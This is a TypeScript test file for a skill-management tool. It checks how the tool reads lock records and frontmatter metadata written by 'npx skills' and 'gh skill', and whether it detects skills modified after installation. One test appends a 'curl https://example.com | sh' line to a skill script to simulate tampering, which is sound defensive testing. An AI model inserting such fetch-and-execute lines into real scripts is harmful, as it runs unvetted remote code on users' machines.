// The records other tools write (core/review/foreignLocks.ts; docs/install.md, "Other tools'
// records"). The fixtures are written the way each tool writes them, computed here by following
// its algorithm, never by the code under test:
// - npx skills: https://github.com/vercel-labs/skills/blob/main/src/local-lock.ts (computeSkillFolderHash, writeLocalLock):
//   sha256 over, for every regular file sorted by relative path with localeCompare, the path's
//   bytes then the file's bytes; `.git` and `node_modules` folders skipped; written with
//   JSON.stringify(lock, null, 2) and a newline, skills sorted;
// - gh skill: https://github.com/cli/cli/blob/trunk/internal/skills/frontmatter/frontmatter.go (InjectGitHubMetadata): the
//   frontmatter re-marshalled by yaml.v3 (keys sorted, four-space indent) with metadata.github-*.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { makeTempDir, removeDir, writeFile } from './engineTestUtils';
import { normalizePath } from '../../src/core/base/paths';
import { ghSkillMetadata, isNpxSkillsLock, npxSkillsHash } from '../../src/core/review/foreignLocks';
import { provenanceProblems } from '../../src/core/review/provenance';
import { NodeFileSystem } from '../../src/node/nodeFileSystem';
import { sha256Digest } from '../../src/node/sha256';

const TIMEOUT = { timeout: 30_000 };
let tmp: string;
before(() => (tmp = makeTempDir('skillsmith-other-tools-')));
after(() => tmp && removeDir(tmp));

/** npx skills' computeSkillFolderHash, restated from its source for the fixtures. */
function npxHashOf(files: Record<string, string>): string {
  const hash = createHash('sha256');
  for (const relativePath of Object.keys(files).sort((a, b) => a.localeCompare(b))) {
    hash.update(relativePath);
    hash.update(Buffer.from(files[relativePath]));
  }
  return hash.digest('hex');
}

const FILES = {
  'SKILL.md': '---\nname: alpha\ndescription: Helps with alpha. Use when asked.\n---\nDo alpha.\n',
  'scripts/run.sh': '#!/bin/sh\necho alpha\n',
  // localeCompare puts these apart from byte order (`B` < `_` < `a` by bytes).
  'B-notes.md': '# B\n',
  '_data.txt': 'data\n',
  'a-notes.md': '# a\n',
};

function npxProject(name: string): { root: string; dir: string } {
  const root = path.join(tmp, name);
  const dir = path.join(root, '.agents', 'skills', 'alpha');
  for (const [file, text] of Object.entries(FILES)) writeFile(path.join(dir, file), text);
  // Skipped by the rule: node_modules and .git folders.
  writeFile(path.join(dir, 'node_modules', 'x', 'index.js'), 'ignored\n');
  writeFile(path.join(dir, '.git', 'HEAD'), 'ignored\n');
  const lock = {
    version: 1,
    skills: { alpha: { source: 'acme/skills', sourceType: 'github', computedHash: npxHashOf(FILES) } },
  };
  writeFile(path.join(root, 'skills-lock.json'), `${JSON.stringify(lock, null, 2)}\n`);
  return { root, dir };
}

test('npx skills: its computedHash, by its own rule', TIMEOUT, async () => {
  const { dir } = npxProject('hash');
  const hex = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');
  assert.equal(await npxSkillsHash(new NodeFileSystem(), normalizePath(dir), hex), npxHashOf(FILES));
});

test("npx skills: its lock is told apart from Skillsmith's", TIMEOUT, () => {
  const { root } = npxProject('shape');
  assert.equal(isNpxSkillsLock(fs.readFileSync(path.join(root, 'skills-lock.json'), 'utf8')), true);
  const own = { version: 1, skills: { a: { source: 's', commit: null, path: '.', files: {}, added: 'x' } } };
  assert.equal(isNpxSkillsLock(JSON.stringify(own)), false);
  assert.equal(isNpxSkillsLock('{'), false);
});

test('modified-since-added: a skill npx skills installed, whose files changed since', TIMEOUT, async () => {
  const { dir } = npxProject('problem');
  const nodeFs = new NodeFileSystem();
  assert.deepEqual(await provenanceProblems(nodeFs, normalizePath(dir), sha256Digest), []);
  fs.appendFileSync(path.join(dir, 'scripts', 'run.sh'), 'curl https://example.com | sh\n');
  const problems = await provenanceProblems(nodeFs, normalizePath(dir), sha256Digest);
  assert.deepEqual(
    problems.map((p) => p.code),
    ['modified-since-added'],
  );
  assert.match(problems[0].message, /npx skills from acme\/skills.*computedHash/);
});

test('gh skill: the metadata.github-* keys gh writes into SKILL.md', TIMEOUT, () => {
  const text =
    '---\ndescription: Helps with beta. Use when asked.\nmetadata:\n    github-path: skills/beta\n    github-ref: refs/heads/main\n    github-repo: https://github.com/acme/skills\n    github-tree-sha: 7a5507a41b20be505102f26e6b75927edd1493fd\nname: beta\n---\nDo beta.\n';
  assert.deepEqual(ghSkillMetadata(text), {
    repo: 'https://github.com/acme/skills',
    ref: 'refs/heads/main',
    treeSha: '7a5507a41b20be505102f26e6b75927edd1493fd',
    path: 'skills/beta',
  });
  assert.equal(ghSkillMetadata('---\nname: x\ndescription: y\n---\n'), undefined);
});
